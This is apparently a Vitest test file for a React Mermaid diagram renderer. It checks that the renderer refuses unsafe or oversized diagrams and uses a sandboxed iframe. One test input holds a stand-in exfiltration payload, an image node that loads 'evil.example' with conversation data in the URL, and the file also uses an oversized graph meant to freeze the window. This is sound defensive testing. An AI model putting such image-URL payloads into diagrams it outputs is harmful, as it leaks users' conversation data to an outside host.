import { act, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { completeGraph } from '../testing/hostile-diagrams';
import { DIAGRAM_VIEW_POLICY } from './diagram-view';
import { MermaidDiagram } from './MermaidDiagram';

const drawn = vi.hoisted(() => ({ calls: [] as Array<{ source: string; theme: string }> }));

// The layout itself (mermaid, in the diagram frame) is what must never run for a refused source: record every call.
vi.mock('./frame/diagram-frame-host', () => ({
  drawInFrame: (source: string, theme: string) => {
    drawn.calls.push({ source, theme });
    return Promise.resolve({ svg: `<svg xmlns="http://www.w3.org/2000/svg"><text>${theme}</text></svg>`, width: 640, height: 320 });
  },
}));

afterEach(() => {
  drawn.calls.length = 0;
  delete document.documentElement.dataset.theme;
  vi.restoreAllMocks();
});

const IMAGE_SHAPE = 'flowchart TD\n  A@{ img: "https://evil.example/pixel.png?secret=the-conversation", h: 60 }\n  A --> B';

describe('MermaidDiagram', () => {
  it('never lays out a diagram with an img shape: no request, no remote <img>, the source and the reason as text', async () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    const imageSpy = vi.spyOn(window, 'Image');
    const { container } = render(<MermaidDiagram source={IMAGE_SHAPE} fallback={<pre>{IMAGE_SHAPE}</pre>} />);
    await waitFor(() => expect(screen.getByTestId('mermaid-fallback').dataset.state).toBe('refused'));
    expect(screen.getByTestId('mermaid-fallback').textContent).toContain('never loaded from an answer');
    expect(drawn.calls).toEqual([]);
    expect(fetchSpy).not.toHaveBeenCalled();
    expect(imageSpy).not.toHaveBeenCalled();
    expect(container.querySelector('img')).toBeNull();
  });

  it('never lays out the 496-edge graph that froze the window: refused from its source, the code shown', async () => {
    const source = completeGraph(32);
    render(<MermaidDiagram source={source} fallback={<pre>{source}</pre>} />);
    await waitFor(() => expect(screen.getByTestId('mermaid-fallback').dataset.state).toBe('refused'));
    expect(screen.getByTestId('mermaid-fallback').textContent).toContain('more than 200 edges (496)');
    expect(drawn.calls).toEqual([]);
  });

  it('draws a source once: shown again, it comes from the cache at once', async () => {
    const source = 'flowchart TD\n  Cached --> Once';
    const first = render(<MermaidDiagram source={source} fallback={<pre />} />);
    await screen.findByTestId('mermaid-diagram');
    first.unmount();
    render(<MermaidDiagram source={source} fallback={<pre />} />);
    expect(screen.getByTestId('mermaid-diagram')).toBeTruthy();
    expect(drawn.calls.filter((call) => call.source === source)).toHaveLength(1);
  });

  it('is drawn again in the new theme after a light/dark switch, the old drawing shown until the new one has loaded', async () => {
    const source = 'flowchart TD\n  Theme --> Switch';
    // jsdom loads each iframe on its own, a task after it is added: held back here, so the test
    // decides when a view frame has loaded (fireEvent's events are not trusted and pass).
    const ownLoads = (event: Event) => {
      if (event.isTrusted && event.target instanceof HTMLIFrameElement) event.stopPropagation();
    };
    document.addEventListener('load', ownLoads, true);
    onTestFinished(() => document.removeEventListener('load', ownLoads, true));
    document.documentElement.dataset.theme = 'light';
    render(<MermaidDiagram source={source} fallback={<pre />} />);
    await waitFor(() => expect(screen.getByTestId('mermaid-diagram').dataset.theme).toBe('light'));
    fireEvent.load(screen.getByTitle('Diagram (mermaid)'));
    act(() => {
      document.documentElement.dataset.theme = 'dark';
    });
    // The new drawing loads in a frame of its own, hidden, while the light one stays shown (never a blank frame).
    await waitFor(() => expect(screen.getAllByTitle('Diagram (mermaid)')).toHaveLength(2));
    const [shown, pending] = screen.getAllByTitle('Diagram (mermaid)') as [HTMLElement, HTMLElement];
    expect(viewedSvg(shown)).toContain('<text>light</text>');
    expect(shown.getAttribute('aria-hidden')).toBeNull();
    expect(viewedSvg(pending)).toContain('<text>dark</text>');
    expect(pending.getAttribute('aria-hidden')).toBe('true');
    expect(pending.className).toContain('md-diagram-view-pending');
    fireEvent.load(pending);
    await waitFor(() => expect(screen.getAllByTitle('Diagram (mermaid)')).toHaveLength(1));
    // The frame that loaded is the one kept (not a new frame navigated again).
    expect(screen.getByTitle('Diagram (mermaid)')).toBe(pending);
    expect(pending.className).toBe('md-diagram-view');
    expect(pending.getAttribute('srcdoc')).toContain('<meta name="color-scheme" content="dark">');
    expect(drawn.calls.filter((call) => call.source === source).map((call) => call.theme)).toEqual(['light', 'dark']);
  });

  // The window parsed an SVG image on its main thread (a diagram at the caps: 30-60 ms): it is shown
  // in a frame of its own instead, which Chromium lays out in another process.
  it('shows a drawing in a script-less sandboxed view frame, sized by the drawing and named, never as an image of the window', async () => {
    const source = 'flowchart TD\n  Framed --> View';
    const { container } = render(<MermaidDiagram source={source} fallback={<pre />} />);
    const view = await screen.findByTitle('Diagram (mermaid)');
    expect(view.tagName).toBe('IFRAME');
    // sandbox="" and nothing else: no scripts, no same origin, no popups, no navigation of the window.
    expect(view.getAttribute('sandbox')).toBe('');
    expect(view.getAttribute('src')).toBeNull();
    expect(view.style.width).toBe('640px');
    const srcdoc = view.getAttribute('srcdoc') ?? '';
    expect(srcdoc).toContain(`<meta http-equiv="Content-Security-Policy" content="${DIAGRAM_VIEW_POLICY}">`);
    expect(viewedSvg(view)).toBe('<svg xmlns="http://www.w3.org/2000/svg"><text>light</text></svg>');
    expect(container.querySelector('img')).toBeNull();
  });
});

/** The SVG a view frame shows, read back from its document's image. */
function viewedSvg(view: HTMLElement): string {
  const document = new DOMParser().parseFromString(view.getAttribute('srcdoc') ?? '', 'text/html');
  const source = document.querySelector('img')?.getAttribute('src') ?? '';
  return decodeURIComponent(source.replace(/^data:image\/svg\+xml;charset=utf-8,/, ''));
}
